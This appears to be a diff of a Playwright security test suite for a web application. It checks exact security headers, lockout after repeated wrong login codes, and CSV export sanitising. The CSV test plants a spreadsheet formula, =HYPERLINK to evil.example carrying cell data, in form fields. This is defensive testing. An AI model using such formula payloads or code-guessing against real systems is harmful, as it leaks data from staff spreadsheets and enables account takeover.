@@ -4,19 +4,39 @@
  */
 import { expect, test } from "@playwright/test";
 import { waitForMail } from "../mailbox/client";
-import { adminCredentials } from "../staff";
+import { adminCredentials, logInAsAdmin } from "../staff";
 import { actionNamed, callAction } from "./actions";
 import { newClient } from "./callers";
 import { lead } from "./endpoints";
 
 const EVIL = { origin: "https://evil.example" };
 
+/** Every directive the production build must send, written out here rather than read from the config. */
+const CONTENT_SECURITY_POLICY = {
+  "default-src": "'self'",
+  "script-src": "'self' 'unsafe-inline'",
+  "style-src": "'self' 'unsafe-inline'",
+  "img-src": "'self' data: blob:",
+  "font-src": "'self'",
+  "connect-src": "'self'",
+  "frame-src": "https://www.youtube-nocookie.com",
+  "frame-ancestors": "'none'",
+  "base-uri": "'self'",
+  "form-action": "'self'",
+  "object-src": "'none'",
+};
+
+/** A Content-Security-Policy header as directive → sources. */
+const policy = (header: string | undefined) =>
+  Object.fromEntries((header ?? "").split(";").map((directive) => directive.trim().split(/\s+/)).filter((parts) => parts[0]).map(([name, ...sources]) => [name, sources.join(" ")]));
+
 test("pages and APIs carry the security headers, HSTS included in production", async () => {
   const client = await newClient();
   for (const path of ["/", "/contact", "/admisson?tab=medical", "/admin", "/api/college/list", "/api/auth/me", "/no-such-page"]) {
     const headers = (await client.get(path, { maxRedirects: 0 })).headers();
-    expect(headers["content-security-policy"], path).toContain("frame-ancestors 'none'");
-    expect(headers["content-security-policy"], path).toContain("object-src 'none'");
+    expect(policy(headers["content-security-policy"]), path).toEqual(CONTENT_SECURITY_POLICY);
+    expect(headers["x-frame-options"], path).toBe("DENY");
+    expect(headers["permissions-policy"], path).toBe("camera=(), microphone=(), geolocation=()");
     expect(headers["x-content-type-options"], path).toBe("nosniff");
     expect(headers["referrer-policy"], path).toBe("strict-origin-when-cross-origin");
     expect(headers["strict-transport-security"], path).toMatch(/max-age=\d{8}/);
@@ -56,7 +76,7 @@ test("a cross-site request with the admin's cookie is refused, through a route o
   await admin.dispose();
 });
 
-test("the sixth wrong code for an account is refused even from a new address, and so is the right one after it", async () => {
+test("five wrong codes for an account, each from a new address, burn its code: the right one after them is refused", async () => {
   const owner = await newClient();
   const stamp = `${Date.now().toString(36)}${Math.floor(Math.random() * 1e4)}`;
   const who = { name: "Brute Target", email: `brute-${stamp}@example.com`, mobile: `96${String(Math.floor(Math.random() * 1e8)).padStart(8, "0")}`, password: `orchard-${stamp}` };
@@ -65,18 +85,17 @@ test("the sixth wrong code for an account is refused even from a new address, an
   const code = /\b(\d{6})\b/.exec(await waitForMail(who.email, /^Your login code/))![1]!;
   const wrong = code === "000000" ? "111111" : "000000";
 
-  for (let attempt = 1; attempt <= 5; attempt++) {
-    const attacker = await newClient();
-    const answer = await attacker.post("/api/auth/verify-otp", { data: { email: who.email, otp: wrong } });
-    expect([400, 401], `wrong code ${attempt}`).toContain(answer.status());
-    await attacker.dispose();
+  const answers: { status: number; message: string }[] = [];
+  for (let attempt = 1; attempt <= 6; attempt++) {
+    const caller = await newClient();
+    const otp = attempt <= 5 ? wrong : code;
+    const answer = await caller.post("/api/auth/verify-otp", { data: { email: who.email, otp } });
+    answers.push({ status: answer.status(), message: ((await answer.json()) as { message: string }).message });
+    await caller.dispose();
   }
-  const sixth = await newClient();
-  const refused = await sixth.post("/api/auth/verify-otp", { data: { email: who.email, otp: code } });
-  expect(refused.status()).toBeGreaterThanOrEqual(400);
-  expect(refused.status()).toBeLessThan(500);
-  expect(((await refused.json()) as { message: string }).message.length).toBeGreaterThan(0);
-  await sixth.dispose();
+  const invalid = { status: 401, message: "That code is not valid. Check the e-mail and try again." };
+  const burnt = { status: 401, message: "That code has expired or been used. Log in again to get a new one." };
+  expect(answers).toEqual([invalid, invalid, invalid, invalid, burnt, burnt]);
   await owner.dispose();
 });
 
@@ -100,4 +119,41 @@ test("the rate limits answer 429 with Retry-After: enquiries per address, staff 
   expect(answers).toContain(429);
   expect(answers.every((status) => status === 401 || status === 429)).toBe(true);
   await client.dispose();
+});
+
+test("every CSV export writes a visitor's formula as text a spreadsheet will not run", async () => {
+  const visitor = await newClient();
+  const formula = `=HYPERLINK("http://evil.example/?"&A1,"Open")`;
+  const tag = `${Date.now().toString(36)}${Math.floor(Math.random() * 1e6)}`;
+  const digits = () => String(Math.floor(Math.random() * 1e9)).padStart(9, "0");
+  const sent = [
+    await visitor.post("/api/contact", { data: { ...lead(), appearedInExam: "yes", examName: formula, examPercentage: 90 } }),
+    await visitor.post("/api/franchise", {
+      data: { orgizationname: `Formula ${tag}`, contactperson: "Asha Rao", mobile: `8${digits()}`, email: `formula-${tag}@example.com`, websiteurl: "https://example.com", description: formula },
+    }),
+    await visitor.post("/api/career/email", {
+      multipart: {
+        name: "Formula Applicant",
+        email: `formula-career-${tag}@example.com`,
+        phone: `7${digits()}`,
+        designation: "Counsellor",
+        dob: "1995-04-12",
+        address: formula,
+        expected_salary: "4 LPA",
+        resume: { name: "cv.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4\n%%EOF\n") },
+      },
+    }),
+  ];
+  for (const response of sent) expect(response.status(), await response.text()).toBeLessThan(300);
+  await visitor.dispose();
+
+  const admin = await newClient();
+  await logInAsAdmin(admin);
+  for (const path of ["/admin/contacts/export", "/admin/franchise/export", "/admin/careers/export"]) {
+    const csv = await (await admin.get(path)).text();
+    // The row is there (a header-only file would prove nothing), its formula prefixed with '.
+    expect(csv, path).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`);
+    expect(csv, path).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  }
+  await admin.dispose();
 });
